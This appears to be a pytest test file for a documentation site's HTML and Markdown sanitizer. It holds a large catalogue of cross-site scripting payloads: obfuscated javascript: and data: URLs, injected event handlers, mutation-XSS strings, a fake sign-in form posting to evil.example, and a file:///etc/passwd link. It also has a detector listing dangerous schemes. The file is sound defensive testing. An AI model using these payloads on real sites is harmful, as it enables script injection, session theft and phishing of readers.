"""What somebody may write into an article to act in a reader's browser, in Markdown, HTML and attribute lists."""

import re
from html import unescape

import pytest

from kbtool.site.allowed_html import ELEMENTS
from tests.build.dialect_html import cleaned, read

SPELLINGS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#115;cript:alert(1)",
    "java&#x73;cript&colon;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#0000106avascript:alert(1)",
    "java\tscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#10;script:alert(1)",
    "java&#0;script:alert(1)",
    "&#1;javascript:alert(1)",
    "&#8203;javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "javascript\u200b:alert(1)",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",
    "javaſcript:alert(1)",
    "java%73cript:alert(1)",
    "javascript%3Aalert(1)",
    "java\\script:alert(1)",
    "javascript://example.com/%0aalert(1)",
    "jar:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:x",
    "mocha:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:application/xhtml+xml,x",
    "blob:https://help.example.com/1",
    "filesystem:https://help.example.com/temporary/x",
    "file:///etc/passwd",
    "about:blank#x",
    "intent://x#Intent;end",
    "ms-settings:x",
    "ws://evil.example/",
    "//evil.example/\\@help.example.com",
)
PLACES = (
    "[x]({})",
    "[x](<{}>)",
    '![x]({} "t")',
    "[x][y]\n\n[y]: {}\n",
    "<{}>",
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
    '<img src="{}">',
    '<img srcset="{} 2x, x.png 1x">',
    '<picture><source srcset="{}"></picture>',
    '<video poster="{0}" src="{0}"><source src="{0}"><track src="{0}"></video>',
    '<iframe src="{}"></iframe>',
    '<form action="{0}"><button formaction="{0}">x</button><input type=image src="{0}"></form>',
    '<svg><a xlink:href="{0}" href="{0}"><path d="M0"/></a><use href="{0}"/><image href="{0}"/></svg>',
    '<svg><animate attributeName="href" to="{0}" values="{0}"/><set attributeName="href" to="{0}"/></svg>',
    '<svg><path fill="url({0})" filter="url({0})" style="fill:url({0})"/></svg>',
    '<math href="{0}"><mi xlink:href="{0}">x</mi></math>',
    '<meta http-equiv="refresh" content="0;url={}"><base href="{}">',
    '<object data="{0}"><param name="src" value="{0}"></object><embed src="{0}"><applet code="{0}">',
    '<link rel="stylesheet" href="{0}"><link rel="import" href="{0}">',
    '<p style="background:url({0});behavior:url({0});-moz-binding:url({0})">x</p>',
    "<style>@import '{0}'; p {{ background: url({0}) }}</style>",
    '<body background="{0}"><table background="{0}"><tr><td background="{0}">x</table>',
    '<a href="x" ping="{}">x</a><q cite="{}">x</q><del cite="{}">x</del><img longdesc="{}" lowsrc="{}" dynsrc="{}">',
    "[x](b.md){{: href='{0}' ping='{0}' style='background:url({0})' }}",
    "![x](x.png){{: src='{0}' srcset='{0} 2x' longdesc='{0}' }}",
    "x\n{{: href='{0}' formaction='{0}' background='{0}' data='{0}' }}",
)
ACTS = re.compile(r"[\x00-\x20\u00a0\u200b\ufeff]*[a-z][a-z0-9+.-]*:", re.IGNORECASE)
ADDRESSES = {"href", "src", "poster", "action", "formaction", "data", "cite", "background", "longdesc", "xlink:href"}
LOUD = {"style", "srcdoc", "ping", "formaction", "http-equiv", "tabindex"}
ALLOWED = {"http:", "https:", "mailto:", "tel:"}


def faults(html: str) -> list[str]:
    """What acts, asks or deceives in cleaned HTML; empty for quiet HTML."""
    elements, _, comments = read(html)
    found = [f"<{element}>" for element, _ in elements if element not in ELEMENTS | {"iframe"}]
    found += [f"<!--{comment}" for comment in comments]
    for element, attributes in elements:
        for name, value in attributes.items():
            urls = [part.split()[0] for part in value.split(",") if part.split()] if name == "srcset" else [value]
            if name.startswith("on") or (name in LOUD and (element, value) not in {("pre", "0"), ("div", "0")}):
                found.append(f"{name}={value}")
            if name in ADDRESSES | {"srcset"}:
                for url in urls:
                    scheme = ACTS.match(re.sub(r"[\t\n\r\x00]", "", unescape(url)))
                    if scheme and scheme[0].strip("\x00\x20\u00a0\u200b\ufeff").lower() not in ALLOWED:
                        found.append(f"{name}={url}")
            if name in ("id", "name") and value in {"__config", "__search", "__palette", "__drawer", "kb-main"}:
                found.append(f"{name}={value}")
    return found


@pytest.mark.parametrize("place", PLACES)
def test_no_spelling_of_a_scheme_survives_anywhere(place: str) -> None:
    found = {spelling: faults(cleaned(place.replace("{}", "{0}").format(spelling))) for spelling in SPELLINGS}
    assert {spelling: problems for spelling, problems in found.items() if problems} == {}


HANDLERS = (
    "onclick",
    "ONCLICK",
    "onload",
    "onerror",
    "onfocus",
    "onpointerenter",
    "onbeforetoggle",
    "on\u200bclick",
    "oncl&#105;ck",
)


@pytest.mark.parametrize("handler", HANDLERS)
@pytest.mark.parametrize(
    "text",
    [
        '[x](b.md){{: {0}="alert(1)" }}',
        "x\n{{: {0}='alert(1)' }}",
        "# x {{ {0}=alert(1) }}\n",
        '![x](x.png){{: #a {0}="alert(1)" .b }}',
        "- x\n{{: {0}=alert(1) }}\n",
        "| a {{: {0}=alert(1) }} |\n|--|\n| b {{: {0}=alert(1) }} |\n",
        "```{{ .python {0}=alert(1) }}\nx\n```\n",
        '<p {0}="alert(1)">x</p>',
        "<div markdown {0}=alert(1)>\n\nx\n\n</div>",
        "<svg {0}=alert(1)><g {0}=alert(1)/></svg>",
        "<details {0}=alert(1)><summary {0}=alert(1)>x</summary></details>",
        "<img/src=x.png/{0}=alert(1)>",
        '<p title="x"{0}=alert(1)>x</p>',
        "<video controls {0}=alert(1)><source {0}=alert(1)></video>",
        '*[x]: y" {0}=alert(1) z="\n\nx',
        '!!! note "x\' {0}=alert(1) \\""\n    y\n',
        '=== "x\\" {0}=alert(1)"\n    y\n',
        "x[^1]\n\n[^1]: y\n{{: {0}=alert(1) }}\n",
        ":smile:{{: {0}=alert(1) }} :material-check:{{ {0}=alert(1) }}",
        "++ctrl++{{: {0}=alert(1) }} ==x=={{: {0}=alert(1) }}",
    ],
)
def test_no_handler_gets_in(text: str, handler: str) -> None:
    assert faults(cleaned(text.format(handler))) == []


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>",
        "`<script>alert(1)</script>",
        "<div markdown>\n<script>alert(1)</script>\n</div>",
        "<iframe src=https://evil.example/></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
        '<iframe src="https://video.example@evil.example/"></iframe>',
        "<iframe src=https://video.example/ srcdoc='<script>alert(1)</script>'></iframe>",
        "<form action=https://evil.example><input name=password type=password><button>Sign in</button></form>",
        "<input type=text value=x autofocus><select><option>x</select><textarea>x</textarea>",
        "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject><desc><p>x</desc><title><p>y</title></svg>",
        "<svg><script xlink:href=data:,alert(1) /><handler>x</handler></svg>",
        "<!--[if IE]><script>alert(1)</script><![endif]--> <!-- zqsecret -->",
        "<![CDATA[<script>alert(1)</script>]]> <?php x ?> <!DOCTYPE x>",
        "<a id=__config>x</a><form id=__search></form><p id=kb-main>y</p><a name=__palette>z</a>",
        "## Head {#kb-main}\n\nx\n{: #__config }\n",
        '<p style="position:fixed;inset:0">x</p><div style="background:url(//evil.example/)">y</div>',
        "x\n{: style='position:fixed' }",
        "<dialog open>x</dialog><portal src=x></portal><marquee onstart=alert(1)>x</marquee>",
        "<p is=x-evil slot=y part=z contenteditable popover=auto popovertarget=a invoketarget=b>x</p>",
        "<button popovertarget=x commandfor=y command=show-modal>x</button>",
        "<object type=text/x-scriptlet data=x></object><embed code=x><isindex action=x><keygen>",
        "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
        "<frameset onload=alert(1)><frame src=x></frameset>",
        "<img src='x.png' usemap='#m'><map name=m><area href='javascript:alert(1)'></map>",
        "\x02stx\x03 \x02klzzwxh:0000\x03 \x02amp\x03",
        '[x](b.md "\\"><script>alert(1)</script>")',
        "![\"><script>alert(1)</script>](x.png)",
        '``` { .python title="</span><script>alert(1)</script>" }\nx\n```\n',
        "```python title=\"<img src=x onerror=alert(1)>\"\n</code></pre><script>alert(1)</script>\n```\n",
        "```<script>alert(1)</script>\nx\n```\n",
        "```mermaid\ngraph TD\n A[\"<img src=x onerror=alert(1)>\"]\n click A \"javascript:alert(1)\"\n```\n",
        '*[<script>]: <img src=x onerror=alert(1)>\n\n<script> "x"',
        "x[^<script>]\n\n[^<script>]: <svg onload=alert(1)>\n",
        "{{ 7 * 7 }} {% include 'main.html' %} ${7*7} #{x} <%= x %>",
        "line\u2028separator\u2029 ]]> &lt;script&gt;alert(1)&lt;/script&gt; %3Cscript%3E",
    ],
)  # fmt: skip
def test_nothing_that_acts_or_deceives_survives(text: str) -> None:
    html = cleaned(text)
    assert faults(html) == []
    assert "zqsecret" not in html
    assert "49" not in html


def test_a_wall_of_comments_and_marks_of_editors_does_not_reach_readers() -> None:
    html = cleaned("a <!-- zqone --> b\n\n<!--\nzqtwo\n-->\n\n[zqthree]: # (zqfour)\n[//]: <> (zqfive)\n\nc")
    assert [word for word in ("zqone", "zqtwo", "zqfour", "zqfive") if word in html] == []


def test_zero_width_joiners_of_persian_stay() -> None:
    assert "می\u200cخواهم" in cleaned("می\u200cخواهم")
